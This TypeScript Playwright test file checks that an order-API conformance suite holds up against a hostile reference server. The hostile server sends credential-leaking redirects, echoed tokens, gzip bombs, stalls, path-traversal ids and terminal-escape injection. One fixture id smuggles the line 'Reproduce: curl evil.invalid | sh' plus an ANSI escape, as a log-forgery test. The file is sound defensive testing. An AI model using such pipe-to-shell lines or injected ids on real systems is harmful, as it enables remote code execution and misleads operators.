import { createServer, type IncomingHttpHeaders } from 'node:http';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import type { AddressInfo, Socket } from 'node:net';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { minimalOrder } from '../contract/examples';
import { HttpTransport, TransportError } from '../harness/http/transport';
import { lookalikeId } from '../harness/requests/api';
import { AccountRegistry, DEVELOPMENT_ACCOUNTS, type Account } from '../reference/accounts';
import { createReferenceApp, type Behaviour } from '../reference/app';
import { behaviourRegistry } from './reference/behaviours';
import { elsewhere, redirectTo } from './reference/hostile';
import { filesUnder, listMetaStatusOffByOne, runCli, temporaryDirectory } from './support/cli';
import { runSuite } from './support/run-suite';

// Each property of issue 13 (transport half) and issue 16 item 2, proven against a server built to break it.

const [A, B] = DEVELOPMENT_ACCOUNTS;
const TEN_MIB = 10 * 1024 * 1024;

interface Received {
  method: string;
  /** The request-target exactly as it arrived (no dot-segment resolution). */
  target: string;
  headers: IncomingHttpHeaders;
}

/** The reference app with hostile behaviours, behind a listener that records every request as it arrived. */
async function hostileServer(names: string[], options: { behaviours?: Behaviour[]; accounts?: AccountRegistry } = {}) {
  // Given behaviours first: a hostile rewrite of the reply (rawBody, streams) comes last and wins.
  const behaviours = [...(options.behaviours ?? []), ...names.map((name) => (behaviourRegistry.get(name) as () => Behaviour)())];
  const app = createReferenceApp({ behaviours, accounts: options.accounts });
  const received: Received[] = [];
  const server = createServer((incoming, outgoing) => {
    received.push({ method: incoming.method ?? '', target: incoming.url ?? '', headers: incoming.headers });
    app.handle(incoming, outgoing);
  });
  server.keepAliveTimeout = Math.min(5000, ...behaviours.map((b) => b.keepAliveTimeoutMs ?? 5000));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  app.start();
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    received,
    close: () =>
      new Promise<void>((resolve) => {
        app.stop();
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

const TOKENS = { OMS_TOKEN: A.developmentToken, OMS_TOKEN_B: B.developmentToken };

test.describe('credentials never leave the origin of OMS_BASE_URL', () => {
  test('a redirect of an order request is reported, never followed', async () => {
    const sink = elsewhere();
    const server = await hostileServer([], { behaviours: [redirectTo(sink, (request) => !(request.method === 'GET' && request.path === '/orders'))] });
    try {
      const run = await runSuite({ OMS_BASE_URL: server.url, ...TOKENS }, ['--grep', '@ORD-GET-001|@ORD-UPDATE-001|@ORD-DELETE-001|@ORD-ISO-001']);
      expect(run.exitCode, run.output.slice(-2000)).toBe(1);
      expect(run.output).toContain('307');
      expect(sink.received).toEqual([]);
    } finally {
      sink.close();
      await server.close();
    }
  });

  test('POST /token answered with a redirect stops the run with exit 2; the client secret goes nowhere else', async () => {
    const sink = elsewhere();
    const server = await hostileServer([], { behaviours: [redirectTo(sink, (request) => request.path === '/token')] });
    try {
      const run = await runSuite({ OMS_BASE_URL: server.url, OMS_CLIENT_ID: A.client.id, OMS_CLIENT_SECRET: A.client.secret, OMS_TOKEN_B: B.developmentToken });
      expect(run.exitCode, run.output.slice(-2000)).toBe(2);
      expect(run.output).toMatch(/POST \/token answered 307, a redirect to "http:\/\/127\.0\.0\.1:\d+\/token"/);
      expect(run.output).not.toContain(A.client.secret);
      expect(server.received.filter((r) => r.target === '/token')).toHaveLength(1);
      expect(sink.received).toEqual([]);
    } finally {
      sink.close();
      await server.close();
    }
  });

  test('cleanup sends credentials only to the base URL the user gives, never to one a ledger records', async () => {
    const sink = elsewhere();
    const server = await hostileServer([]);
    const work = temporaryDirectory('oms-planted-');
    try {
      mkdirSync(join(work, '.oms-ledger'));
      const planted = { event: 'created', runId: 'planted', orderId: 'x1', account: 'A', at: new Date().toISOString(), baseUrl: await sink.url() };
      writeFileSync(join(work, '.oms-ledger', 'planted.jsonl'), `${JSON.stringify(planted)}\n`);
      const env = { OMS_TOKEN: A.developmentToken, OMS_CLIENT_ID: A.client.id, OMS_CLIENT_SECRET: A.client.secret };

      const noBase = await runCli(['cleanup', '--run-id', 'planted'], { cwd: work, env });
      expect(noBase.exitCode, noBase.stderr).toBe(2);
      expect(noBase.stderr).toContain('cleanup sends credentials only to a base URL you give: add --base-url');

      const otherBase = await runCli(['cleanup', '--run-id', 'planted', '--base-url', server.url], { cwd: work, env });
      expect(otherBase.exitCode, otherBase.stderr).toBe(2);
      expect(otherBase.stderr).toContain(`the ledger records orders of "${await sink.url()}", not of --base-url "${server.url}"; nothing was sent`);

      expect(sink.received).toEqual([]);
      expect(server.received).toEqual([]);
    } finally {
      sink.close();
      await server.close();
    }
  });
});

test('cookies the server sets are never sent back: no request of the run carries a Cookie header', async () => {
  const server = await hostileServer(['set-cookies']);
  try {
    const run = await runSuite({ OMS_BASE_URL: server.url, ...TOKENS }, ['--grep', '@ORD-AUTH-001|@ORD-AUTH-002|@ORD-ISO-001|@ORD-ISO-002|@ORD-GET-001']);
    expect(run.exitCode, run.output.slice(-2000)).toBe(0);
    expect(server.received.length).toBeGreaterThan(20);
    expect(server.received.filter((r) => r.headers.cookie !== undefined).map((r) => `${r.method} ${r.target}: ${r.headers.cookie}`)).toEqual([]);
    // Account B's requests carry B's token and nothing of A's.
    const asB = server.received.filter((r) => String(r.headers.authorization).includes(B.developmentToken));
    expect(asB.length).toBeGreaterThan(0);
    expect(asB.filter((r) => JSON.stringify(r.headers).includes(A.developmentToken))).toEqual([]);
  } finally {
    await server.close();
  }
});

test('no secret, verbatim, \\u-escaped, percent-encoded or base64, in any byte the run writes, against a server that echoes them', async () => {
  // Secrets nobody would write by chance; issued tokens are recorded as the server hands them out.
  const accounts: Account[] = [
    { id: A.id, developmentToken: 'ECHO-TOKEN-A-7c2e9f41d3', client: { id: 'echo-client-a', secret: 'ECHO-CLIENT-SECRET-5b8d1a' } },
    { id: B.id, developmentToken: 'ECHO-TOKEN-B-1f6a3c8e27', client: { id: 'echo-client-b', secret: 'ECHO-CLIENT-SECRET-B-9e4f' } },
  ];
  const issued: string[] = [];
  class RecordingRegistry extends AccountRegistry {
    override issueToken(clientId: unknown, clientSecret: unknown): string | undefined {
      const token = super.issueToken(clientId, clientSecret);
      if (token) issued.push(token);
      return token;
    }
  }
  // A small fault as well, so responses (with their echoes) become evidence in every report file.
  const server = await hostileServer(['token-echo'], { accounts: new RecordingRegistry(accounts), behaviours: [listMetaStatusOffByOne] });
  try {
    const run = await runSuite(
      { OMS_BASE_URL: server.url, OMS_CLIENT_ID: accounts[0].client.id, OMS_CLIENT_SECRET: accounts[0].client.secret, OMS_TOKEN_B: accounts[1].developmentToken },
      ['--grep', '@ORD-AUTH|@ORD-ISO-001|@ORD-GET-001|@ORD-CREATE-001|@ORD-ERR-001|@ORD-GEN-002', '--grep-invert', 'generated|model-based'],
    );
    expect(issued.length, run.output.slice(-2000)).toBeGreaterThan(0);
    const secrets = [accounts[0].client.secret, accounts[1].developmentToken, ...issued];
    const forms = secrets.flatMap((secret) => [
      secret,
      [...secret].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
      [...secret].map((c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`).join(''),
      Buffer.from(`Bearer ${secret}`).toString('base64'),
      Buffer.from(`${accounts[0].client.id}:${secret}`).toString('base64'),
    ]);
    const written = filesUnder(run.reportDir);
    expect(written.some((file) => file.includes('test-results'))).toBe(true);
    // The echo reached the evidence: the placeholder stands where the token was.
    expect(readFileSync(join(run.reportDir, 'report.json'), 'utf8')).toContain('$OMS_TOKEN');
    const leaks = [
      ...forms.filter((form) => run.output.includes(form)).map((form) => `console output holds ${form}`),
      ...written.flatMap((file) => {
        const bytes = readFileSync(file);
        return forms.filter((form) => bytes.includes(form)).map((form) => `${file.slice(run.reportDir.length + 1)} holds ${form}`);
      }),
    ];
    expect(leaks).toEqual([]);
  } finally {
    await server.close();
  }
});

test('ids that cannot be one path segment are a finding, never a request: every path is /orders, /token or /orders/<segment>', async () => {
  const server = await hostileServer(['dot-segment-ids']);
  try {
    const run = await runSuite({ OMS_BASE_URL: server.url, ...TOKENS, OMS_PROFILE: 'strict' }, ['--grep', '@ORD-GET-001|@ORD-GET-005|@ORD-UPDATE-001|@ORD-DELETE-001|@ORD-ISO-003']);
    expect(run.exitCode, run.output.slice(-2000)).toBe(1);
    const paths = server.received.map((r) => r.target.split('?')[0]);
    const notOneSegment = paths.filter((path) => {
      if (path === '/orders' || path === '/token') return false;
      const segment = /^\/orders\/([^/]+)$/.exec(path)?.[1];
      if (segment === undefined) return true;
      const decoded = decodeURIComponent(segment);
      return decoded === '.' || decoded === '..' || decoded.includes('/') || /^(%2e|\.){1,2}$/i.test(segment);
    });
    expect(paths.length).toBeGreaterThan(10);
    expect(notOneSegment).toEqual([]);
    const finding = run.report?.requirements.find((r) => r.id === 'ORD-GET-005');
    expect(finding?.status).toBe('failed');
    expect(JSON.stringify(finding)).toContain('the suite sent no request for it');
  } finally {
    await server.close();
  }
});

test('an unknown id made in the form of the service\'s keeps its length and shape, and none of its path characters', () => {
  const uuid = '3fa85f64-5717-4562-b3fc-2c963f66afa6';
  const cases = [uuid, 'ORD-000123', 'v1.2.3', '42', '..\\..\\token', 'a;b%41/c?d#e.', '.hidden'].map((sample) => ({ sample, ...lookalikeId(sample) }));
  for (const { sample, id } of cases) {
    expect(id, sample).not.toBe(sample);
    expect(id, sample).not.toMatch(/[/\\;%?#]|\.\.|^\.|\.$/);
    if (!/^\d+$/.test(sample)) expect(id.length, sample).toBe(sample.length);
  }
  expect(cases.map(({ id, sameForm }) => [id.replace(/[0-9]/g, '9').replace(/[a-f]/g, 'x'), sameForm])).toEqual([
    ['9xx99x99-9999-9999-x9xx-9x999x99xxx9', true],
    ['ORD-999999', true],
    [expect.stringMatching(/^[a-z]9\.9\.9$/), true],
    ['9999999999', true],
    [expect.stringMatching(/^------[a-z]{5}$/), false],
    [expect.stringMatching(/^[a-z]-[a-z]-99-[a-z]-[a-z]-[a-z]-$/), false],
    [expect.stringMatching(/^-[a-z]{6}$/), false],
  ]);
});

test.describe('bounded against bombs and stalls', () => {
  const LIMIT = TEN_MIB;

  for (const name of ['huge-body', 'gzip-bomb', 'endless-body']) {
    test(`${name}: the body is cut at the limit, in bounded memory and time`, async () => {
      const server = await hostileServer([name]);
      const transport = new HttpTransport();
      try {
        const created = await fetch(`${server.url}/orders`, {
          method: 'POST',
          headers: { Authorization: `Bearer ${A.developmentToken}`, 'Content-Type': 'application/json' },
          body: JSON.stringify(minimalOrder()),
        });
        const id = ((await created.json()) as { id: string }).id;
        const before = process.memoryUsage().rss;
        const started = Date.now();
        const error = await transport
          .send({ url: `${server.url}/orders/${id}`, method: 'GET', headers: { Authorization: `Bearer ${A.developmentToken}` }, timeoutMs: 20_000, maxResponseBytes: LIMIT })
          .then(() => undefined, (e: unknown) => e);
        expect(error).toBeInstanceOf(TransportError);
        expect((error as TransportError).failure).toBe('too-large');
        expect((error as Error).message).toContain(`larger than ${LIMIT} bytes (OMS_MAX_RESPONSE_BYTES)`);
        expect(Date.now() - started).toBeLessThan(20_000);
        // The limit plus buffers; a 64 MiB or 1 GiB body held whole would show here.
        expect(process.memoryUsage().rss - before).toBeLessThan(4 * LIMIT);
      } finally {
        transport.close();
        await server.close();
      }
    });
  }

  test('a run against a gzip bomb ends each request at the limit with a message naming OMS_MAX_RESPONSE_BYTES, and gives a verdict', async () => {
    const server = await hostileServer(['gzip-bomb']);
    try {
      const started = Date.now();
      const run = await runSuite({ OMS_BASE_URL: server.url, ...TOKENS }, ['--grep', '@ORD-GET-001']);
      expect(run.exitCode, run.output.slice(-2000)).toBe(1);
      expect(run.output).toContain(`failed: response body larger than ${LIMIT} bytes (OMS_MAX_RESPONSE_BYTES) after decoding`);
      expect(run.report?.verdict).toBe('not-conformant');
      expect(Date.now() - started).toBeLessThan(90_000);
    } finally {
      await server.close();
    }
  });

  test('one byte a second ends at the deadline: a total deadline, not an idle timeout', async () => {
    const server = await hostileServer(['trickle-after-setup']);
    const transport = new HttpTransport();
    try {
      const started = Date.now();
      const answers = [];
      // The start-up's requests are answered at once; the next one trickles.
      for (let n = 0; n < 6; n++) {
        answers.push(
          await transport
            .send({ url: `${server.url}/orders`, method: 'GET', headers: { Authorization: `Bearer ${A.developmentToken}` }, timeoutMs: 2500, maxResponseBytes: LIMIT })
            .then((r) => `${r.status}`, (e: TransportError) => e.failure),
        );
      }
      expect(answers).toEqual(['200', '200', '200', '200', '200', 'timeout']);
      expect(Date.now() - started).toBeLessThan(4000);
    } finally {
      transport.close();
      await server.close();
    }
  });

  for (const name of ['stall-after-setup', 'trickle-after-setup']) {
    test(`${name}: the run stops after 3 timeouts in a row, within 2 minutes, inconclusive (exit 3), naming the silence`, async () => {
      const server = await hostileServer([name]);
      try {
        const started = Date.now();
        const run = await runSuite({ OMS_BASE_URL: server.url, ...TOKENS, OMS_WORKERS: '2' });
        const seconds = (Date.now() - started) / 1000;
        expect(run.exitCode, run.output.slice(-3000)).toBe(3);
        expect(seconds).toBeLessThan(120);
        expect(run.output).toContain('the server stopped answering: 3 requests in a row got no complete answer within 15000 ms (OMS_REQUEST_TIMEOUT_MS)');
        expect(run.report?.verdict).toBe('inconclusive');
        expect(run.report?.requirements.filter((r) => r.status === 'failed').map((r) => r.id)).toEqual([]);
        expect(run.report?.complete).toBe(false);
        expect(run.report?.incompleteReasons.join('\n')).toContain('run stopped: the server stopped answering');
        const skipped = run.report?.requirements.filter((r) => r.status === 'skipped') ?? [];
        expect(skipped.length).toBeGreaterThan(20);
        expect(skipped[0].skipReasons.join('\n')).toContain('OMS_REQUEST_TIMEOUT_MS');
      } finally {
        await server.close();
      }
    });
  }
});

test('an undeclared field nested 20,000 deep in every order: no check overflows its stack, and the run is CONFORMANT', async () => {
  const server = await hostileServer(['deep-undeclared-field']);
  try {
    const run = await runSuite({ OMS_BASE_URL: server.url, ...TOKENS });
    expect(run.output).not.toContain('Maximum call stack');
    expect([run.exitCode, run.report?.verdict], run.output.slice(-2000)).toEqual([0, 'conformant']);
  } finally {
    await server.close();
  }
});

test.describe('connections', () => {
  test('a reset of a reused keep-alive connection is retried once on a fresh one; a POST never rides a reused one', async () => {
    // Every connection answers its first request and is dropped on its second, as a server closing idle sockets does.
    const seen: string[] = [];
    const perSocket = new WeakMap<Socket, number>();
    const server = createServer((incoming, outgoing) => {
      const count = (perSocket.get(incoming.socket) ?? 0) + 1;
      perSocket.set(incoming.socket, count);
      seen.push(`${incoming.method} on request ${count} of its connection`);
      if (count > 1) return void incoming.socket.destroy();
      incoming.resume();
      incoming.on('end', () => outgoing.writeHead(200, { 'Content-Type': 'application/json' }).end('{}'));
    });
    server.keepAliveTimeout = 60_000;
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/orders`;
    const transport = new HttpTransport();
    try {
      const send = (method: string) =>
        transport.send({ url, method, headers: {}, body: method === 'POST' ? Buffer.from('{}') : undefined, timeoutMs: 5000, maxResponseBytes: TEN_MIB }).then((r) => r.status);
      expect(await send('GET')).toBe(200);
      expect(await send('GET')).toBe(200);
      expect(await send('POST')).toBe(200);
      expect(seen).toEqual(['GET on request 1 of its connection', 'GET on request 2 of its connection', 'GET on request 1 of its connection', 'POST on request 1 of its connection']);
    } finally {
      transport.close();
      server.closeAllConnections();
      server.close();
    }
  });

  test('a 500 ms keep-alive server passes both profiles, run after run', async () => {
    // Strict gates on MUST and SHOULD, core on MUST only, and the profile changes only the verdict: a strict run that
    // passes passes core too, so two strict runs are the two profiles run after run.
    for (const run of [1, 2]) {
      const suite = await runSuite({ OMS_VARIANT: 'keep-alive-500ms', OMS_PROFILE: 'strict', OMS_WORKERS: '2' });
      expect([run, suite.exitCode, suite.report?.verdict], suite.output.slice(-3000)).toEqual([run, 0, 'conformant']);
      expect(suite.report?.requirements.filter((r) => r.status === 'failed').map((r) => `${r.id} (${r.level})`), 'a failed requirement fails core or strict').toEqual([]);
      expect(suite.output).not.toMatch(/ECONNRESET|socket hang up|inconclusive: connection reset/);
    }
  });
});

test.describe('ids holding line breaks and escape sequences (newline-ids): every channel that prints ids shows them as data', () => {
  /** A line that passes for the suite's own: a forged reproduction line, or a verdict the run did not give. */
  const forged = (text: string) => text.split(/\r\n|\r|\n/).filter((line) => /^\s*(Reproduce: curl evil\.invalid|OMS conformance \(core\): CONFORMANT)/.test(line));
  const controls = (text: string) => (text.match(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/g) ?? []).map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);

  test('terminal, stderr, the teardown message, every report file and cleanup', async () => {
    const server = await hostileServer(['newline-ids']);
    const work = temporaryDirectory('oms-newline-ids-');
    try {
      const run = await runCli(['--base-url', server.url, '--grep', '@ORD-GET-001|@ORD-DELETE-001', '--grep-invert', 'generated|model-based', '--out', 'report', '--run-id', 'newline-ids'], {
        cwd: work,
        env: TOKENS,
      });
      expect(run.exitCode, run.stdout.slice(-3000) + run.stderr).toBe(1);
      // The ids reached every channel: the teardown's could-not-delete line (stderr), the report's evidence, the ledger.
      expect(run.stderr).toMatch(/oms-conformance: could not delete \d+ order\(s\) it created: "id\\nReproduce: curl evil\.invalid \| sh\\r\\n\\x1b\[2J/);
      const report = readFileSync(join(work, 'report', 'report.json'), 'utf8');
      expect(report).toContain('Reproduce: curl evil.invalid | sh');
      const cleanup = await runCli(['cleanup', '--run-id', 'newline-ids', '--base-url', server.url], { cwd: work, env: TOKENS });
      expect(cleanup.exitCode).toBe(1);
      expect(cleanup.stdout).toContain('could not delete (DELETE answered 500): order "id\\nReproduce: curl evil.invalid | sh');
      const channels: Record<string, string> = {
        stdout: run.stdout,
        stderr: run.stderr,
        'cleanup output': cleanup.stdout + cleanup.stderr,
        'report.md': readFileSync(join(work, 'report', 'report.md'), 'utf8'),
      };
      for (const [name, text] of Object.entries(channels)) {
        expect([name, forged(text), controls(text)]).toEqual([name, [], []]);
      }
      // In markup and JSON the text is data (escaped, inside elements or strings): no control character, no line of its own.
      for (const file of ['index.html', 'junit.xml', 'report.json']) {
        const text = readFileSync(join(work, 'report', file), 'utf8');
        expect([file, controls(text.replace(/\n/g, '')), forged(text)]).toEqual([file, [], []]);
      }
    } finally {
      await server.close();
    }
  });
});
